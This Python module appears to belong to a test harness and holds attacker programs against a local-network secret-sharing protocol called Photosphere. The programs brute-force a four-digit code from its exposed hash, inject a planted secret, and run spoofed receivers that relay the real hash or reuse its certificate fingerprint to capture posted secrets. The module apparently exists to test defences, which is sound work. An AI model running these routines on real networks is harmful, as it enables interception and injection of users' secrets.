"""Programs against Photosphere's protocol, whose wire lets an attacker on the network read and deliver."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Awaitable, Callable

from keybaton_core.announcements import DISCOVERY_PORT
from keybaton_core.photosphere_wire import HASH_PATH, PAYLOAD_PATH, code_hash, format_announcement, parse_hash_reply
from keybaton_testing.attacker.calling import PLANTED
from keybaton_testing.attacker.http import ask, read_message, response
from keybaton_testing.attacker.position import Position, Program, Streams

PAUSE = 0.2


async def _inverted_code(position: Position) -> str:
    """The code: its hash is there for the asking, and there are ten thousand."""
    streams = await position.dial(await position.wait_photosphere())
    given = parse_hash_reply((await ask(position, streams, "GET", HASH_PATH)).body)
    streams[1].transport.abort()
    return next(code for code in (f"{number:04}" for number in range(10000)) if code_hash(code) == given)


def deliver(**changed: object) -> Program:
    """Inverts the receiver's hash and posts a payload of ours; `changed` are members that break its format."""

    async def program(position: Position) -> None:
        code = await _inverted_code(position)
        streams = await position.dial(await position.wait_photosphere())
        payload = {"type": "secret", "name": PLANTED, "secretType": "plain", "value": "mallory's", **changed}
        body = json.dumps({"codeHash": code_hash(code), "payload": payload}).encode()
        answer = await ask(position, streams, "POST", PAYLOAD_PATH, body, seconds=20)
        position.did["delivered" if answer.status == 200 else "refused"] += 1

    return program


async def relay_hash(position: Position) -> None:
    """A receiver of our own that shows the real one's hash, announced to the sender alone; it keeps what is posted."""
    target = await position.wait_photosphere()

    async def handle(streams: Streams) -> None:
        message = await read_message(position, streams)
        if message.path == HASH_PATH:
            there = await position.dial(target)
            body = (await ask(position, there, "GET", HASH_PATH)).body
        else:
            position.learned.append(message.body)
            body = b'{"success":true}'
        streams[1].write(response(200, body))
        await streams[1].drain()

    certificate = position.certificates[0]
    port = await position.serve(handle, certificate)
    await _tell(position, format_announcement(port, certificate.fingerprint))


async def announce_another(position: Position) -> None:
    """A second receiver beside the real one."""
    certificate = position.certificates[0]
    port = await position.serve(_taking(position), certificate)
    await _tell(position, format_announcement(port, certificate.fingerprint))


async def copy_pin(position: Position) -> None:
    """The real fingerprint with a port of ours, where another certificate is shown."""
    target = await position.wait_photosphere()
    port = await position.serve(_taking(position), position.certificates[0])
    await _tell(position, format_announcement(port, target.fingerprint))


def _taking(position: Position) -> Callable[[Streams], Awaitable[None]]:
    async def handle(streams: Streams) -> None:
        position.did["connections"] += 1
        position.learned.append((await read_message(position, streams)).body)

    return handle


async def _tell(position: Position, datagram: bytes) -> None:
    # To each neighbour by itself: a broadcast may be filtered, a unicast datagram hardly ever is.
    stem = position.broadcast.rpartition(".")[0]
    with position.datagram_socket() as sock:
        while True:  # until the try ends
            for last in range(1, 10):
                sock.sendto(datagram, (f"{stem}.{last}", DISCOVERY_PORT))
            position.did["datagrams"] += 1
            await asyncio.sleep(PAUSE)
